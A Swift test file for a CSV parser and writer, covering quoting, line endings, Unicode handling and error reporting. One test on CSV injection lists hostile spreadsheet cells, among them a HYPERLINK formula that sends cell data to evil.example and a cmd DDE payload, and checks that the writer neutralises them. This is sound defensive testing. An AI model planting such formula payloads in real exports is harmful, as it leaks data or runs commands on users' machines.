import Foundation
import Testing

@testable import Interop

/// RFC 4180 reading and writing, including what real exports do that the RFC does not.
@Suite struct CSVTests {
    @Test func quotedFieldsKeepCommasQuotesAndLineBreaks() throws {
        let records = try CSV.records("a,b,c\r\n\"x, y\",\"say \"\"hi\"\"\",\"two\r\nlines\"\r\nlast,,\r\n")
        #expect(
            records.map(\.fields) == [["a", "b", "c"], ["x, y", "say \"hi\"", "two\r\nlines"], ["last", "", ""]])
        #expect(records.map(\.line) == [1, 2, 4])  // a record starts where its first field does
    }

    @Test func byteOrderMarkLineEndsAndBlankLinesAreTolerated() throws {
        let records = try CSV.records("\u{FEFF}id,name\n1,ana\r\n\n2,bo\r3,cy")
        #expect(records.map(\.fields) == [["id", "name"], ["1", "ana"], ["2", "bo"], ["3", "cy"]])
        #expect(records.map(\.line) == [1, 2, 4, 5])
        #expect(try CSV.records("\"\"\n").map(\.fields) == [[""]])  // a quoted empty field is a record
    }

    /// The reader splits UTF-8 bytes: every character around a comma, a quote or a line end comes
    /// out whole, a combining mark after a comma included (compared by scalars, not by `==`).
    @Test func fieldsSplitOnBytesKeepEveryCharacterWhole() throws {
        let records = try CSV.records("名前,\"José, \"\"Ana\"\"\",e\u{301}\r\n,\u{301}x,\u{1F600}\n")
        let expected = [["名前", "José, \"Ana\"", "e\u{301}"], ["", "\u{301}x", "\u{1F600}"]]
        #expect(
            records.map { $0.fields.map { Array($0.unicodeScalars) } }
                == expected.map { $0.map { Array($0.unicodeScalars) } })
        #expect(records.map(\.line) == [1, 2])
    }

    @Test func malformedQuotingNamesTheLine() {
        #expect(throws: CSV.SyntaxError(line: 2, message: "a quoted field is never closed")) {
            try CSV.records("a\n\"open,\nstill open")
        }
        #expect(throws: CSV.SyntaxError.self) { try CSV.records("a\n\"closed\"trailing\n") }
    }

    @Test func writingQuotesOnlyWhatNeedsItAndReadsBack() throws {
        let rows = [["plain", "with, comma", "with \"quote\"", "line\nbreak", " edge ", ""]]
        let text = CSV.text(rows)
        #expect(text == "plain,\"with, comma\",\"with \"\"quote\"\"\",\"line\nbreak\",\" edge \",\r\n")
        #expect(try CSV.records(text).map(\.fields) == rows)
    }

    /// OWASP's CSV injection: a cell a spreadsheet would run is written as text, judged by its
    /// first byte, so `=` with a combining mark or a variation selector is caught too.
    @Test func formulaCellsAreNeutralisedByTheirFirstByte() throws {
        let hostile = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Grades\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=\u{301}HYPERLINK(\"http://evil.example\")", "=\u{FE0F}1+1", "=\u{20D7}2",
        ]
        let text = CSV.text([hostile])
        for field in try CSV.records(text)[0].fields {
            #expect(field.hasPrefix("'"), "\(field.debugDescription)")
        }
        #expect(try CSV.records(text)[0].fields == hostile.map { "'" + $0 })
        #expect(CSV.field("=\u{301}x") == "'=\u{301}x")
        #expect(CSV.lines([["=1", "ok"]]) == ["'=1,ok"])
    }

    @Test func numbersAndHarmlessTextStayAsTheyAre() {
        for plain in ["-3", "+2.5", "-1e-5", "0", "ana", "3B", "Math Jam", "a=b", " -x "] where !plain.hasPrefix(" ") {
            #expect(CSV.field(plain) == plain)
        }
        #expect(CSV.field("-") == "'-")
        #expect(CSV.field("-inf") == "'-inf")
    }
}
